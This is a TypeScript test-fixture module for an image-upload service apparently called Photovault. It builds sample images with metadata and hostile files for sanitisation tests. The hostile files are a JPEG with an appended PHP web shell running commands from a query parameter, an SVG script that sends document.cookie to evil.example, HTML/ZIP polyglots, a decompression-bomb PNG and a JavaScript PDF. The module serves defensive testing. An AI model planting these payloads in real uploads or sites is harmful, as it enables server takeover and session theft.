import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Planted in every hostile payload, so a test can prove it did not survive. */
export const PAYLOAD_MARKER = 'PVPAYLOAD-7f3a91c2';

// Split so antivirus tools scanning the repository do not flag this source file.
export const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$' + 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';

export type FixtureFormat = 'jpeg' | 'png' | 'webp' | 'gif' | 'avif' | 'tiff';

export interface ImageOptions {
  width?: number;
  height?: number;
  alpha?: boolean;
}

/** A small photo-like picture (gradient plus noise) in the given format. */
export async function makeImage(format: FixtureFormat, options: ImageOptions = {}): Promise<Buffer> {
  const { width = 64, height = 48, alpha = false } = options;
  return sharp(gradientPixels(width, height, alpha), { raw: { width, height, channels: alpha ? 4 : 3 } })
    .toFormat(format)
    .toBuffer();
}

/** A HEIF file whose brand says HEIC, as iPhones send (the payload is AV1; only the brand differs). */
export async function makeHeicBrandedImage(): Promise<Buffer> {
  const avif = await makeImage('avif');
  const brand = avif.indexOf('ftypavif', 0, 'latin1');
  return Buffer.concat([avif.subarray(0, brand), Buffer.from('ftypheic', 'latin1'), avif.subarray(brand + 8)]);
}

/** A 3000 × 2000-class JPEG whose size and decode cost resemble a camera photo. */
export async function makePhotoJpeg(width: number, height: number): Promise<Buffer> {
  return sharp(gradientPixels(width, height, false), { raw: { width, height, channels: 3 } }).jpeg({ quality: 90 }).toBuffer();
}

/** An animated GIF whose frames differ in colour. */
export async function makeAnimatedGif(frames: number, width = 40, height = 30): Promise<Buffer> {
  const pages = await Promise.all(
    Array.from({ length: frames }, (_, i) =>
      sharp({ create: { width, height, channels: 3, background: { r: (i * 80) % 256, g: 40, b: 200 } } }).png().toBuffer(),
    ),
  );
  return sharp(pages, { join: { animated: true } }).gif().toBuffer();
}

/** A JPEG carrying EXIF (GPS, camera, orientation), XMP, an ICC profile and a COM comment, all holding the marker. */
export async function makeJpegWithMetadata(orientation = 1): Promise<Buffer> {
  const jpeg = await sharp(gradientPixels(80, 40, false), { raw: { width: 80, height: 40, channels: 3 } })
    .withExif({
      IFD0: { Make: 'PhotovaultCam', Copyright: PAYLOAD_MARKER },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 2650/100', GPSLongitudeRef: 'W', GPSLongitude: '0/1 7/1 3966/100' },
    })
    .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="${PAYLOAD_MARKER}"/></rdf:RDF></x:xmpmeta>`)
    .withIccProfile('p3')
    .withMetadata({ orientation })
    .jpeg()
    .toBuffer();
  return insertJpegComment(jpeg, `comment ${PAYLOAD_MARKER}`);
}

/**
 * What a camera writes: make, model, lens, exposure, date taken (with its offset unless null) and a
 * GPS position; different in its bytes on every call (a comment segment), so that one user's
 * uploads of it are never reported as duplicates.
 */
export async function makeCameraJpeg(options: { taken?: string; offset?: string | null; width?: number; height?: number } = {}): Promise<Buffer> {
  const { taken = '2019:07:14 15:30:00', offset = '+02:00', width = 64, height = 48 } = options;
  const jpeg = await sharp(gradientPixels(width, height, false), { raw: { width, height, channels: 3 } })
    .withExif({
      IFD0: { Make: 'Canon', Model: 'Canon EOS R5' },
      IFD2: {
        DateTimeOriginal: taken,
        ...(offset === null ? {} : { OffsetTimeOriginal: offset }),
        ExposureTime: '1/250',
        FNumber: '28/10',
        ISOSpeedRatings: '400',
        FocalLength: '35/1',
        LensModel: 'RF24-70mm F2.8 L IS USM',
      },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 2650/100', GPSLongitudeRef: 'W', GPSLongitude: '0/1 7/1 3966/100' },
    })
    .jpeg()
    .toBuffer();
  cameraCounter += 1;
  return insertJpegComment(jpeg, `camera test image ${process.pid}-${cameraCounter}-${Math.random().toString(36).slice(2)}`);
}

let cameraCounter = 0;

/** Inserts a COM segment right after the SOI marker. */
export function insertJpegComment(jpeg: Buffer, text: string): Buffer {
  const body = Buffer.from(text, 'latin1');
  const header = Buffer.from([0xff, 0xfe, 0, 0]);
  header.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), header, body, jpeg.subarray(2)]);
}

/** Inserts an arbitrary marker segment (e.g. APP13 IPTC, APP2 MPF) right after the SOI marker. */
export function insertJpegSegment(jpeg: Buffer, marker: number, body: Buffer): Buffer {
  const header = Buffer.from([0xff, marker, 0, 0]);
  header.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), header, body, jpeg.subarray(2)]);
}

/** What makePngWithMetadata appends after IEND. */
export const TRAILING_DATA = 'TRAILING-DATA';

/**
 * A PNG carrying an ICC profile, gamma and density (kept for display) plus tEXt, zTXt, iTXt, tIME, a
 * private chunk and data after IEND, all holding the marker; with an eXIf orientation when given.
 */
export async function makePngWithMetadata(orientation?: number): Promise<Buffer> {
  let pipeline = sharp(gradientPixels(60, 30, true), { raw: { width: 60, height: 30, channels: 4 } })
    .withIccProfile('p3')
    .withExif({ IFD0: { Make: 'PhotovaultCam', Copyright: PAYLOAD_MARKER } });
  if (orientation !== undefined) pipeline = pipeline.withMetadata({ orientation, density: 300 });
  const png = await pipeline.png().toBuffer();
  const ihdrEnd = 8 + 25;
  const text = [
    pngChunk('tEXt', Buffer.from(`Comment\0${PAYLOAD_MARKER}`, 'latin1')),
    pngChunk('zTXt', Buffer.concat([Buffer.from('Author\0\0', 'latin1'), deflateSync(Buffer.from(PAYLOAD_MARKER))])),
    pngChunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta>${PAYLOAD_MARKER}</x:xmpmeta>`, 'latin1')),
    pngChunk('tIME', Buffer.from([0x07, 0xe3, 7, 14, 12, 0, 0])),
    pngChunk('prVt', Buffer.from(PAYLOAD_MARKER)),
  ];
  return Buffer.concat([png.subarray(0, ihdrEnd), ...text, png.subarray(ihdrEnd), Buffer.from(`${TRAILING_DATA} ${PAYLOAD_MARKER}`)]);
}

/** A JPEG that is also an HTML page: the markup hides in a COM segment (a classic polyglot). */
export async function makeJpegHtmlPolyglot(): Promise<Buffer> {
  return insertJpegComment(await makeImage('jpeg'), `<html><body><script>alert("${PAYLOAD_MARKER}")</script></body></html>`);
}

/** A valid JPEG followed by a PHP web shell. */
export async function makeJpegWithPhpPayload(): Promise<Buffer> {
  return Buffer.concat([await makeImage('jpeg'), Buffer.from(`<?php system($_GET['c']); /* ${PAYLOAD_MARKER} */ ?>`)]);
}

/** A valid JPEG followed by a ZIP archive holding a script (a JPEG/ZIP polyglot, no HTML markers). */
export async function makeJpegWithZipPayload(): Promise<Buffer> {
  return Buffer.concat([await makeImage('jpeg'), makeStoredZip('payload.txt', Buffer.from(`echo ${PAYLOAD_MARKER}`))]);
}

/** The first `fraction` of a JPEG whose entropy-coded data is large enough to cut mid-scan. */
export async function makeTruncatedJpeg(fraction = 0.6): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 320, height: 240, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 40 } } })
    .jpeg()
    .toBuffer();
  return jpeg.subarray(0, Math.floor(jpeg.length * fraction));
}

/**
 * A decompression bomb's header: a PNG of a few hundred bytes declaring width × height pixels,
 * with one real row of data (so it is also truncated).
 */
export function makePngDeclaring(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 0, 0, 0, 0], 8); // 8-bit greyscale, deflate, no filter, no interlace
  const row = Buffer.alloc(1 + width); // filter byte + pixels
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(row)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export const SVG_WITH_SCRIPT = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert('${PAYLOAD_MARKER}')">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect width="100" height="100" fill="red"/>
</svg>
`;

export const BARE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>`;

export const HTML_PAGE = `<!DOCTYPE html>
<html><head><title>x</title></head><body><script>alert('${PAYLOAD_MARKER}')</script></body></html>
`;

export const PDF_DOCUMENT = Buffer.from(
  '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
  'latin1',
);

export const PLAIN_TEXT = 'Just some notes.\nNothing to see here.\n';

/** A fresh temporary directory and a function that removes it. */
export async function makeTempDir(prefix = 'photovault-test-'): Promise<{ dir: string; remove: () => Promise<void> }> {
  const dir = await mkdtemp(path.join(os.tmpdir(), prefix));
  return { dir, remove: () => rm(dir, { recursive: true, force: true }) };
}

/** Writes the bytes into the directory and returns the file's path. */
export async function writeFixture(dir: string, name: string, data: Buffer | string): Promise<string> {
  const file = path.join(dir, name);
  await writeFile(file, data);
  return file;
}

function gradientPixels(width: number, height: number, alpha: boolean): Buffer {
  const channels = alpha ? 4 : 3;
  const pixels = Buffer.alloc(width * height * channels);
  let seed = 42;
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      const noise = (seed >> 16) % 24;
      const offset = (y * width + x) * channels;
      pixels[offset] = Math.min(255, Math.floor((x / width) * 220) + noise);
      pixels[offset + 1] = Math.min(255, Math.floor((y / height) * 200) + noise);
      pixels[offset + 2] = Math.min(255, 90 + noise);
      if (alpha) pixels[offset + 3] = x < width / 2 ? 255 : 0;
    }
  }
  return pixels;
}

/** One PNG chunk: length, type, data and CRC. */
export function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length, 0);
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData), 0);
  return Buffer.concat([length, typeAndData, crc]);
}

function makeStoredZip(name: string, content: Buffer): Buffer {
  const fileName = Buffer.from(name, 'latin1');
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const centralOffset = local.length + fileName.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, fileName, content, central, fileName, end]);
}
